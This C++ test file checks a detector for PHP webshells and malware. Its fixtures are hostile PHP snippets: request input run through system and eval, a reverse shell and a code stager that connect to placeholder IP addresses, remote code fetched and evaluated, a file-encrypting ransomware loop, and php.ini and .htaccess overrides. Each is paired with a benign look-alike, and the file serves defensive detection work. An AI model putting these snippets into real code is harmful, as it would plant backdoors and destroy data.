// Deeper request-input taint (php_taint.h, behaviour.cc): request input carried through array
// elements, list(), methods, the session, register_globals-era variables the page's own forms
// send; SQL consoles and file managers; functions called from tables of decoded names. Each
// technique has a hand-written positive and a benign look-alike that must stay quiet.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "webroot/code_lexer.h"
#include "webroot/normalize.h"

namespace tq::webroot {
namespace {

std::vector<CodeTrait> Traits(std::string_view src) {
  return Normalize(src, CodeKind::kPhp).traits;
}

// The strongest trait that stands alone (what a finding would be raised for), of one family.
int Alone(const std::vector<CodeTrait>& t, std::string_view family = "") {
  int s = 0;
  for (const CodeTrait& c : t)
    if (c.alone && (family.empty() || c.family == family)) s = std::max(s, c.strength);
  return s;
}

bool Has(const std::vector<CodeTrait>& t, std::string_view id) {
  return std::any_of(t.begin(), t.end(), [&](const CodeTrait& c) { return c.id == id; });
}

TEST(PhpTaint, ArrayElementsAndListCarryRequestInput) {
  EXPECT_GE(Alone(Traits("<?php $p = array(); foreach ($_POST as $k => $v) $p[$k] = $v;"
                         " system($p['cmd']);"),
                  "exec"),
            4);
  EXPECT_GE(Alone(Traits("<?php $q = []; $q[] = $_COOKIE['c']; passthru($q[0]);"), "exec"), 4);
  EXPECT_GE(Alone(Traits("<?php list($f, $a) = explode('|', $_COOKIE['d']); $f($a);"), "exec"), 4);
  // An array of the application's own values, beside request input used as data only.
  auto quiet = Traits(
      "<?php $cfg['cmd'] = '/usr/bin/uptime'; $row['name'] = $_POST['name'];"
      " echo htmlspecialchars($row['name']); system($cfg['cmd']);");
  EXPECT_LT(Alone(quiet, "exec"), 3);
}

TEST(PhpTaint, FilterInputReadsTheSuperglobals) {
  EXPECT_EQ(Alone(Traits("<?php eval(filter_input(INPUT_POST, 'c'));"), "exec"), 4);
  EXPECT_EQ(Alone(Traits("<?php $a = filter_input_array(INPUT_GET); system($a['x']);"), "exec"), 4);
  // The server's own environment read through the same function is no request input.
  EXPECT_LT(Alone(Traits("<?php system('ls ' . escapeshellarg(filter_input(INPUT_ENV, 'HOME')));"),
                  "exec"),
            3);
}

// Magento 2's object manager hands out the request (RequestInterface, Request\Http), held in a
// variable or used at once; framework file writers take file_put_contents' arguments; an
// upload's entry kept in a variable still carries the client's file name.
TEST(PhpTaint, FrameworkRequestObjectsWritersAndUploadEntries) {
  EXPECT_EQ(Alone(Traits("<?php $om = \\Magento\\Framework\\App\\ObjectManager::getInstance();"
                         " $r = $om->get(\\Magento\\Framework\\App\\RequestInterface::class);"
                         " eval($r->getParam('x'));"),
                  "exec"),
            4);
  EXPECT_EQ(Alone(Traits("<?php $om = ObjectManager::getInstance(); system($om->get("
                         "'Magento\\Framework\\App\\Request\\Http')->getPost('c'));"),
                  "exec"),
            4);
  EXPECT_EQ(Alone(Traits("<?php $d = new \\Magento\\Framework\\Filesystem\\Driver\\File();"
                         " $d->filePutContents($_GET['f'], $_POST['d']);"),
                  "upload"),
            3);
  EXPECT_EQ(Alone(Traits("<?php $u = $_FILES['f']; $n = $u['name'];"
                         " move_uploaded_file($u['tmp_name'], './' . $n);"),
                  "upload"),
            3);
  // Another service from the object manager, a framework writer given the code's own path and
  // content, an upload saved under a name the code makes: no.
  EXPECT_LT(Alone(Traits("<?php $c = $om->get(ScopeConfigInterface::class);"
                         " system('convert ' . escapeshellarg($c->getValue('img/path')));"),
                  "exec"),
            3);
  EXPECT_EQ(Alone(Traits("<?php $fs->dumpFile($cacheDir . '/routes.php', $compiled);"), "upload"),
            0);
  EXPECT_LT(Alone(Traits("<?php $u = $_FILES['f']; $n = md5_file($u['tmp_name']) . '.jpg';"
                         " move_uploaded_file($u['tmp_name'], $dir . '/' . $n);"),
                  "upload"),
            3);
}

TEST(PhpTaint, MethodsAndTheSessionCarryRequestInput) {
  // A class whose method evaluates its argument, fed request input kept in the session.
  EXPECT_GE(Alone(Traits("<?php session_start(); if (isset($_POST['k'])) $_SESSION['p'] ="
                         " base64_decode($_POST['k']); class Runner { function go($c) {"
                         " eval($c); } } $r = new Runner(); $r->go($_SESSION['p']);"),
                  "exec"),
            4);
  // A controller dispatching a request-chosen action to one of its own methods.
  auto router = Traits(
      "<?php class Front { function run($action, $args) {"
      " return call_user_func_array(array($this, $action . 'Action'), $args); } }"
      " $f = new Front(); $f->run($_GET['action'], array($_GET['id']));");
  EXPECT_LT(Alone(router, "exec"), 3);
  // A method called with the application's own values; the session holding a user id.
  auto quiet = Traits(
      "<?php session_start(); $_SESSION['uid'] = (int) $user->id; class View { function"
      " render($tpl) { eval('?>' . $tpl); } } $v = new View(); $v->render($compiled);");
  EXPECT_LT(Alone(quiet, "exec"), 3);
}

TEST(PhpTaint, VariableVariablesFromTheRequest) {
  EXPECT_GE(Alone(Traits("<?php foreach (array('cmd', 'dir') as $v) { if (isset($_POST[$v]))"
                         " $$v = $_POST[$v]; } if ($cmd) passthru($cmd);"),
                  "exec"),
            4);
  // Variable variables set from the code's own table.
  EXPECT_LT(Alone(Traits("<?php $defaults = array('cmd' => 'uptime'); foreach ($defaults as $k =>"
                         " $v) { $$k = $v; } passthru($cmd);"),
                  "exec"),
            3);
}

TEST(PhpTaint, RegisterGlobalsVariablesThePageSends) {
  // <input name=cmd> and system($cmd), nothing setting $cmd: PHP < 5.4 filled it.
  EXPECT_GE(Alone(Traits("<form method=post><input name=cmd><input type=submit></form>"
                         "<?php if ($cmd) { echo '<pre>'; system($cmd); } ?>"),
                  "exec"),
            4);
  EXPECT_GE(Alone(Traits("<?php echo \"<a href='?act=del&file=x'>del</a>\";"
                         " if ($act == 'del') unlink($file); $d = opendir($dir);"
                         " while ($e = readdir($d)) echo $e; ?>"
                         "<form><input name=\"dir\"></form>"),
                  "filemanager"),
            3);
  // Undefined variables no form sends: a template the application includes.
  auto tpl = Traits("<?php eval('?>' . $compiled); system('convert ' . escapeshellarg($path));");
  EXPECT_LT(Alone(tpl, "exec"), 3);
  EXPECT_TRUE(Has(tpl, "php.undefined_to_exec"));  // counted only beside another trait
  // A form field of the same name, in a file that includes others (the value is theirs).
  auto included =
      Traits("<?php include 'header.php'; ?><form><input name=cmd></form><?php system($cmd); ?>");
  EXPECT_LT(Alone(included, "exec"), 3);
  // Set by the file itself, or by a by-reference argument.
  EXPECT_LT(
      Alone(Traits("<form><input name=cmd></form><?php $cmd = 'uptime'; system($cmd);"), "exec"),
      3);
  EXPECT_LT(Alone(Traits("<form><input name=m></form><?php preg_match('/(ls)/', 'ls', $m);"
                         " system($m[1]);"),
                  "exec"),
            3);
}

TEST(PhpTaint, UndefinedVariablesWritingFiles) {
  auto w = Traits("<?php $fp = fopen($target, 'w'); fwrite($fp, $data); fclose($fp);");
  EXPECT_TRUE(Has(w, "php.undefined_to_file"));
  EXPECT_LT(Alone(w), 2);  // weak alone
  auto r = Traits("<?php $fp = fopen($target, 'r'); echo fread($fp, 100);");
  EXPECT_FALSE(Has(r, "php.undefined_to_file"));
}

TEST(PhpTaint, SqlConsolesAndFileManagers) {
  // The request's SQL run on a connection the file opens: a database trait (medium), and
  // high beside a file manager in the same file (two families agree, see findings.cc).
  auto sql = Traits(
      "<?php $db = new mysqli('localhost', 'shop', 'secret', 'shop');"
      " $res = $db->query($_POST['sql']); while ($r = $res->fetch_row()) echo implode(',', $r);");
  EXPECT_TRUE(Has(sql, "php.request_sql"));
  EXPECT_EQ(Alone(sql, "database"), 2);
  auto fm = Traits(
      "<?php $d = $_GET['d']; foreach (scandir($d) as $f) echo $f;"
      " if (isset($_GET['rm'])) unlink($_GET['rm']); if ($_FILES) move_uploaded_file("
      "$_FILES['f']['tmp_name'], $d . '/' . basename($_FILES['f']['name']));");
  EXPECT_GE(Alone(fm, "filemanager"), 3);
  // A query with a request value inside a fixed template is an application, not a console.
  auto app = Traits(
      "<?php $db = new mysqli('localhost', 'shop', 'secret', 'shop');"
      " $db->query('SELECT * FROM orders WHERE id = ' . (int) $_GET['id']);");
  EXPECT_FALSE(Has(app, "php.request_sql"));
  // A download script reading one file the request names is not a file manager.
  auto dl = Traits("<?php readfile('/var/exports/' . basename($_GET['f']));");
  EXPECT_FALSE(Has(dl, "php.request_file_manager"));
}

TEST(PhpTaint, FunctionsCalledFromTablesOfDecodedNames) {
  EXPECT_GE(Alone(Traits("<?php $t = array('f' => pack('c*', 115, 121, 115, 116, 101, 109),"
                         " 'a' => base64_decode('aWQ=')); $t['f']($t['a']);"),
                  "exec"),
            3);
  EXPECT_GE(Alone(Traits("<?php $f = explode('|', base64_decode('ZmlsZV9nZXRfY29udGVudHN8YQ=='));"
                         " $x = $f[0]($f[1]);"),
                  "exec"),
            3);
  // A table of plain labels, its entries called as callbacks: a dispatcher.
  EXPECT_LT(
      Alone(Traits("<?php $h = array('a' => 'strtoupper', 'b' => 'trim'); echo $h['a']('x');"),
            "exec"),
      3);
  // Pieces joined into a URL whose code is fetched and run.
  EXPECT_GE(Alone(Traits("<?php $u = array('http', '://', 'code.example', '/x.txt');"
                         " eval(file_get_contents(implode('', $u)));"),
                  "exec"),
            4);
}

TEST(PhpTaint, CommandsReadFromAConnectionTheCodeOpens) {
  auto shell = Traits(
      "<?php $s = fsockopen('203.0.113.9', 4444); while (!feof($s)) {"
      " $c = trim(fgets($s, 1024)); fputs($s, shell_exec($c)); }");
  EXPECT_TRUE(Has(shell, "php.back_connect_shell"));
  EXPECT_GE(Alone(shell, "exec"), 4);
  // A client reading a server's answer and logging it runs nothing.
  auto client = Traits(
      "<?php $s = fsockopen('smtp.example.com', 25); $greeting = fgets($s, 512);"
      " error_log($greeting); fclose($s);");
  EXPECT_FALSE(Has(client, "php.back_connect_shell"));
  EXPECT_LT(Alone(client, "exec"), 3);
  // A local file read line by line and run is not a connection.
  EXPECT_FALSE(Has(Traits("<?php $f = fopen('jobs.txt', 'r'); $c = fgets($f); exec($c);"),
                   "php.back_connect_shell"));
}

TEST(PhpTaint, FetchedCodeWrittenIntoPhpFiles) {
  const char* fetch =
      "<?php function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);"
      " return curl_exec($c); }";
  auto drop = Traits(std::string(fetch) +
                     " $path = $_SERVER['DOCUMENT_ROOT'] . '/tmp/x.php';"
                     " $body = get('http://203.0.113.5/a.txt'); $fp = fopen($path, 'w');"
                     " fwrite($fp, $body); fclose($fp);");
  EXPECT_GE(Alone(drop, "upload"), 3);
  // Fetching a feed into a cache file is a fetch to a file, not a dropper.
  auto cache =
      Traits(std::string(fetch) +
             " file_put_contents(CACHE_DIR . '/rates.json', get('https://api.example/r'));");
  EXPECT_EQ(Alone(cache, "upload"), 2);
}

TEST(PhpTaint, ListeningSocketsAndServerDirectoryObjects) {
  auto bind = Traits(
      "<?php set_time_limit(0); $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);"
      " socket_bind($s, '0.0.0.0', 1080); socket_listen($s); while ($c = socket_accept($s)) {"
      " socket_write($c, 'ok'); }");
  EXPECT_GE(Alone(bind, "network"), 3);
  // A server library: listens, no time limit touched (it runs from the command line).
  auto lib = Traits(
      "<?php class Server { function __construct($uri) { $this->s = stream_socket_server($uri);"
      " } }");
  EXPECT_LT(Alone(lib, "network"), 2);
  EXPECT_GE(Alone(Traits("<?php $o = new COM('IIS://localhost/w3svc'); foreach ($o as $site)"
                         " echo $site->Name;"),
                  "exec"),
            3);
  EXPECT_LT(Alone(Traits("<?php $w = new COM('Excel.Application');"), "exec"), 3);
}

TEST(PhpTaint, ServerSettingsAndSymlinkBypasses) {
  EXPECT_TRUE(Has(Traits("<?php $r = fopen('php.ini', 'w'); fwrite($r, 'disable_functions=none');"),
                  "php.writes_server_config"));
  EXPECT_TRUE(Has(Traits("<?php file_put_contents('uploads/.htaccess', 'AddType "
                         "application/x-httpd-php .jpg');"),
                  "php.writes_server_config"));
  EXPECT_TRUE(Has(Traits("<?php symlink('/', 'root');"), "php.symlink_escape"));
  // An installer writing rewrite rules; a deploy script linking its own release folder.
  EXPECT_FALSE(Has(Traits("<?php file_put_contents(ABSPATH . '.htaccess', \"RewriteEngine On\n"
                          "RewriteRule ^index\\.php$ - [L]\");"),
                   "php.writes_server_config"));
  EXPECT_FALSE(
      Has(Traits("<?php symlink($release . '/pub', $root . '/current');"), "php.symlink_escape"));
}

TEST(PhpTaint, StreamWrapperBypassesAndSelfRewrites) {
  EXPECT_TRUE(Has(Traits("<?php $f = $_POST['file']; copy('compress.zlib://' . $f, '/tmp/x');"),
                  "php.request_wrapper_read"));
  EXPECT_TRUE(
      Has(Traits("<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, \"file:///$_GET[p]\");"),
          "php.request_wrapper_read"));
  // A fixed wrapper path, and a request path without a wrapper, are something else.
  EXPECT_FALSE(Has(Traits("<?php $x = file_get_contents('compress.zlib://' . CACHE_FILE);"),
                   "php.request_wrapper_read"));
  EXPECT_FALSE(Has(Traits("<?php readfile('/srv/files/' . basename($_GET['f']));"),
                   "php.request_wrapper_read"));
  EXPECT_TRUE(Has(Traits("<?php $src = file_get_contents(__FILE__); $src = str_replace('A', "
                         "$_REQUEST['code'], $src); file_put_contents(__FILE__, $src);"),
                  "php.rewrites_itself"));
  // An installer rewriting its own file with a fixed string.
  EXPECT_FALSE(
      Has(Traits("<?php file_put_contents(__FILE__, '<?php exit; ?>');"), "php.rewrites_itself"));
}

TEST(PhpTaint, NamesCutOutOfDecoyWordsAreFolded) {
  // A shell function's name cut out of a longer word with substr(), then called as a string.
  auto cut = Traits(
      "<?php $run = function() { $m = 'plaxsystemq';"
      " (substr($m, 4, 3) . substr($m, -4, 3))($_REQUEST['x']); }; $run();");
  EXPECT_TRUE(Has(cut, "php.request_to_shell"));
  EXPECT_GE(Alone(cut, "exec"), 4);
  // The fold follows PHP: negative start and length count from the end.
  auto n = Normalize(
      "<?php echo substr('abcdef', 1, 2), substr('abcdef', -3), "
      "substr('abcdef', 0, -4), substr('abc', 9);",
      CodeKind::kPhp);
  ASSERT_FALSE(n.layers.empty());
  EXPECT_NE(n.layers[0].text.find("'bc','def','ab',''"), std::string::npos) << n.layers[0].text;
  // substr() of the application's own values calls nothing.
  auto plain = Traits(
      "<?php $t = substr('Products and more', 0, 8); echo htmlspecialchars($t);"
      " echo substr($_GET['q'], 0, 20);");
  EXPECT_EQ(Alone(plain, "exec"), 0);
}

TEST(PhpTaint, ConnectionsOpenedThroughANameInAVariable) {
  // A stager trying one socket function after another through a variable, then running the
  // code the connection sends.
  auto stager = Traits(
      "<?php if (($f = 'stream_socket_client') && is_callable($f)) { $s = "
      "$f('tcp://192.0.2.7:81'); }"
      " $n = fread($s, 4); $code = ''; while (strlen($code) < 100) { $code .= fread($s, 100); }"
      " eval($code);");
  EXPECT_TRUE(Has(stager, "php.back_connect_shell"));
  // The same variable call fetching a status line that is only printed runs nothing.
  auto client = Traits(
      "<?php $f = 'fsockopen'; $s = $f('status.example.com', 80); fwrite($s, \"GET / "
      "HTTP/1.0\\r\\n\\r\\n\");"
      " echo htmlspecialchars(fread($s, 512));");
  EXPECT_FALSE(Has(client, "php.back_connect_shell"));
  EXPECT_LT(Alone(client, "exec"), 3);
}

TEST(PhpTaint, UploadsSavedAsPagesOrWhereTheRequestSays) {
  EXPECT_TRUE(Has(Traits("<?php move_uploaded_file($_FILES['f']['tmp_name'], 'cache/s.php');"),
                  "php.upload_to_php"));
  auto anywhere = Traits("<?php copy($_FILES['f']['tmp_name'], $_POST['to']); echo 'done';");
  EXPECT_TRUE(Has(anywhere, "php.upload_to_request_path"));
  EXPECT_GE(Alone(anywhere, "upload"), 3);
  // A store saving an upload under its own directory and a name it makes is not a dropper.
  auto shop = Traits(
      "<?php $name = md5_file($_FILES['img']['tmp_name']) . '.jpg';"
      " move_uploaded_file($_FILES['img']['tmp_name'], MEDIA_DIR . '/' . $name);");
  EXPECT_FALSE(Has(shop, "php.upload_to_php"));
  EXPECT_FALSE(Has(shop, "php.upload_to_request_path"));
  EXPECT_LT(Alone(shop, "upload"), 3);
}

TEST(PhpTaint, ExecutionSinksCalledByReflection) {
  auto shell = Traits(
      "<?php $r = new ReflectionFunction('passthru'); $r->invokeArgs(array($_COOKIE['k']));");
  EXPECT_TRUE(Has(shell, "php.request_to_reflected_sink"));
  EXPECT_GE(Alone(shell, "exec"), 4);
  // Reflection over the application's own functions (a DI container) is not a sink.
  auto di = Traits(
      "<?php $r = new ReflectionFunction($handler); $r->invokeArgs(array($_GET['id']));"
      " $p = new ReflectionFunction('strlen'); echo $p->getNumberOfParameters();");
  EXPECT_FALSE(Has(di, "php.request_to_reflected_sink"));
}

TEST(PhpTaint, ValuesBeforeALoopOrAParameterAreNotFoldedIntoThem) {
  // A decoder accumulating in a loop: the value before the loop is not what the body sees, so
  // the evaluator runs the real loop (a shift cipher of 'bttfsu' gives 'assert').
  auto cipher = Traits(
      "<?php function dec($s) { $c = ''; for ($i = 0; $i < strlen($s); $i++) {"
      " $c = $c . chr(ord(substr($s, $i, 1)) - 1); } return $c; }"
      " $p = $_POST['p']; call_user_func_array(dec('bttfsu'), array($p));");
  EXPECT_TRUE(Has(cipher, "php.request_to_exec"));
  // A parameter keeps its name in its declaration (uses in the body follow the file-wide
  // constant: scripts pass their globals to their functions under the same names).
  auto n = Normalize(
      "<?php $code = ''; function run($code) { return trim($code); }"
      " $t = ''; while ($x) { $t = $t . 'a'; }",
      CodeKind::kPhp);
  ASSERT_FALSE(n.layers.empty());
  EXPECT_NE(n.layers[0].text.find("function run($code)"), std::string::npos) << n.layers[0].text;
  EXPECT_NE(n.layers[0].text.find("$t=$t.'a'"), std::string::npos) << n.layers[0].text;
}

TEST(PhpTaint, ValuesFlowAroundFunctionsAndOutOfBranchesAsPhpRunsThem) {
  // A value set before a function definition still holds after it (the definition runs
  // nothing); one set inside an if may or may not hold after the block.
  auto n = Normalize(
      "<?php $k = 'abc'; $k = 'passthru'; function f() { $k = 'x'; return $k; }"
      " $k($_GET['c']); $m = 'one'; $m = 'two'; if ($z) { $m = 'three'; } echo $m;",
      CodeKind::kPhp);
  ASSERT_FALSE(n.layers.empty());
  EXPECT_NE(n.layers[0].text.find("passthru($_GET['c'])"), std::string::npos) << n.layers[0].text;
  EXPECT_NE(n.layers[0].text.find("echo $m"), std::string::npos) << n.layers[0].text;
}

TEST(PhpTaint, FunctionsThatOnlyReturnALiteralFold) {
  // Code split between a literal and a function returning the rest of it.
  auto split = Traits(
      "<?php function part() { $q = \"\\$_REQ\"; return 'l(' . $q . \"UEST['k']\"; }"
      " assert('eva' . part() . ');');");
  EXPECT_TRUE(Has(split, "php.request_to_exec"));
  // Functions with parameters, branches or more than one definition, and methods, are not
  // constants.
  auto n = Normalize(
      "<?php function a() { return 'x'; } function a2($v) { return 'y'; }"
      " function b() { if ($z) { return 'p'; } return 'q'; } echo a(), a2(1), b(), $o->a();",
      CodeKind::kPhp);
  ASSERT_FALSE(n.layers.empty());
  EXPECT_NE(n.layers[0].text.find("'x',a2(1),b(),$o->a()"), std::string::npos) << n.layers[0].text;
}

TEST(PhpTaint, VariablesImportedThroughSuperglobalNames) {
  // register_globals emulated by walking the superglobals by name: every undefined variable
  // may come from the request, here one handed to a function that evaluates it.
  auto shell = Traits(
      "<?php foreach (array('_GET', '_COOKIE') as $src) { foreach ($$src as $k => $v) {"
      " $$k = $v; } } function run($c) { eval($c); } run($payload);");
  EXPECT_TRUE(Has(shell, "php.request_to_exec"));
  // Cleaning the superglobals in place evaluates nothing.
  auto clean = Traits(
      "<?php foreach (array('_GET', '_POST') as $src) { foreach ($$src as $k => $v) {"
      " $clean[$k] = strip_tags($v); } } echo count($clean);");
  EXPECT_EQ(Alone(clean, "exec"), 0);
}

TEST(PhpTaint, FunctionsMadeToEvaluateTheirArgument) {
  auto made = Traits(
      "<?php $cb = create_function('$x, $y', 'return assert($x);');"
      " $m = new Memcache(); $m->addServer('localhost', 11211, true, 1, 1, -1, true, $cb);"
      " $m->connect($_REQUEST['h'], 11211);");
  EXPECT_TRUE(Has(made, "php.evaluator_function"));
  EXPECT_GE(Alone(made, "exec"), 3);
  // An old sort callback made with create_function runs no code of its caller's choosing.
  auto sort = Traits(
      "<?php usort($rows, create_function('$a, $b', 'return strcmp($a[\"n\"], $b[\"n\"]);'));"
      " echo $_GET['page'];");
  EXPECT_FALSE(Has(sort, "php.evaluator_function"));
}

TEST(PhpTaint, SinksNamedAtTheCallOfTheFilesOwnFunction) {
  auto wrapped = Traits(
      "<?php function relay($fn, $args) { return call_user_func_array($fn, $args); }"
      " relay('system', array($_POST['c']));");
  EXPECT_TRUE(Has(wrapped, "php.request_to_exec"));
  // The same wrapper called with the application's own callback, or a sink's name passed
  // to a function that only logs it, is not execution.
  auto app = Traits(
      "<?php function relay($fn, $args) { return call_user_func_array($fn, $args); }"
      " relay('htmlspecialchars', array($_POST['c']));"
      " function note($kind, $msg) { error_log($kind . ': ' . $msg); } note('system', "
      "$_GET['m']);");
  EXPECT_FALSE(Has(app, "php.request_to_exec"));
}

TEST(PhpTaint, CodeReturnedByAFunctionCalledThroughAVariable) {
  // The decoder's name is hidden in a variable and what it returns is run: two traits.
  auto hidden = Traits(
      "<?php $d = preg_filter('/\\s+/', '', 'base 64 _ deco de'); $c = $d($blob); @eval($c);");
  EXPECT_TRUE(Has(hidden, "obfuscation.runs_variable_call_result"));
  // A template engine evaluating what its own compiler method returned is neither.
  auto engine = Traits("<?php $code = $this->compile($src); eval('?>' . $code);");
  EXPECT_FALSE(Has(engine, "obfuscation.runs_variable_call_result"));
}

TEST(PhpTaint, FilesOverwrittenWithEncryptedCopiesOfThemselves) {
  auto ransom = Traits(
      "<?php function lock($dir, $key) { foreach (scandir($dir) as $f) { $p = $dir . '/' . $f;"
      " if (is_dir($p)) { lock($p, $key); continue; } $plain = file_get_contents($p);"
      " $iv = random_bytes(16);"
      " $c = base64_encode($iv . openssl_encrypt($plain, 'aes-256-cbc', $key, 0, $iv));"
      " file_put_contents($p, $c); rename($p, $p . '.locked'); } } lock('.', 'k');");
  EXPECT_TRUE(Has(ransom, "php.encrypts_files_in_place"));
  EXPECT_GE(Alone(ransom, "ransom"), 3);
  // Encrypting a settings value into another file, or re-saving a file as it was read, is
  // not ransomware.
  auto vault = Traits(
      "<?php $cfg = file_get_contents('config.json'); foreach (glob('*.json') as $g) { echo $g; }"
      " $sealed = openssl_encrypt($cfg, 'aes-256-gcm', $k, 0, $iv, $tag);"
      " file_put_contents($vault_path, $sealed); $raw = file_get_contents($f);"
      " file_put_contents($f, trim($raw));");
  EXPECT_FALSE(Has(vault, "php.encrypts_files_in_place"));
}

TEST(PhpTaint, CodeHiddenInImageMetadata) {
  auto exif = Traits(
      "<?php $m = exif_read_data('media/logo.jpg'); preg_replace($m['Software'], $m['Artist'], "
      "'');");
  EXPECT_TRUE(Has(exif, "php.runs_image_metadata"));
  EXPECT_GE(Alone(exif, "exec"), 3);
  // A gallery printing the camera model, cleaned by a literal pattern, runs nothing.
  auto gallery = Traits(
      "<?php $m = exif_read_data($path); echo preg_replace('/[^a-z0-9 ]/i', '', $m['Model']);");
  EXPECT_FALSE(Has(gallery, "php.runs_image_metadata"));
}

TEST(PhpTaint, ImportRequestVariablesIsRegisterGlobals) {
  auto shell = Traits(
      "<?php if (!ini_get('register_globals')) { import_request_variables('GPC'); }"
      " if ($act == 'del') { unlink($target); } else { $h = fopen($target, 'w');"
      " fwrite($h, $body); } echo implode(',', scandir($dir));");
  EXPECT_TRUE(Has(shell, "php.request_file_manager"));
  // Without the import, the same names are the script's own (nothing flags them as request).
  auto own = Traits(
      "<?php $target = __DIR__ . '/cache.txt'; $body = date('c'); $dir = __DIR__;"
      " $h = fopen($target, 'w'); fwrite($h, $body); echo implode(',', scandir($dir));");
  EXPECT_FALSE(Has(own, "php.request_file_manager"));
}

TEST(PhpTaint, RequestInputWrittenToAStreamAndReadBack) {
  auto memory = Traits(
      "<?php $m = fopen('php://memory', 'w+'); fwrite($m, $_POST['c']); rewind($m);"
      " eval(stream_get_contents($m));");
  EXPECT_TRUE(Has(memory, "php.request_to_exec"));
  // A log line with the request's path written to a log file runs nothing.
  auto log = Traits(
      "<?php $h = fopen(LOG_DIR . '/access.log', 'a'); fwrite($h, $_GET['page'] . "
      "\"\\n\");"
      " fclose($h); include __DIR__ . '/footer.php';");
  EXPECT_EQ(Alone(log, "exec"), 0);
}

TEST(PhpTaint, DefaultsAndNormalisationsKeepAVariableTheRequestSet) {
  // After a register_globals emulation, a default for an absent value or a value normalised
  // from itself is still what the request sent.
  std::string emulation = "<?php foreach (array('c', 'd') as $v) $$v = $_POST[$v];\n";
  EXPECT_GE(Alone(Traits(emulation + "if (!isset($d)) $d = \"\"; unlink($d); copy($c, $d);"),
                  "filemanager"),
            3);
  EXPECT_GE(Alone(Traits(emulation + "$d = str_replace('\\\\', '/', $d); if ($d == '') $d = './';"
                                     " $d .= '/'; unlink($d); copy($c, $d);"),
                  "filemanager"),
            3);
  // A value of the code's own replacing it, and str_replace's count (its by-reference
  // argument) set by the call: no longer the request's.
  EXPECT_LT(Alone(Traits(emulation + "$d = '/tmp/cache/'; unlink($d . 'x'); copy($c, $d);"),
                  "filemanager"),
            3);
  EXPECT_LT(Alone(Traits(emulation + "$t = str_replace('a', 'b', $c, $d); unlink($d);"
                                     " copy('x', $d);"),
                  "filemanager"),
            3);
  // With no emulation, an application's own default stays its own.
  EXPECT_EQ(
      Alone(Traits("<?php if (!isset($d)) $d = '/var/cache'; unlink($d . '/x');"), "filemanager"),
      0);
}

}  // namespace
}  // namespace tq::webroot
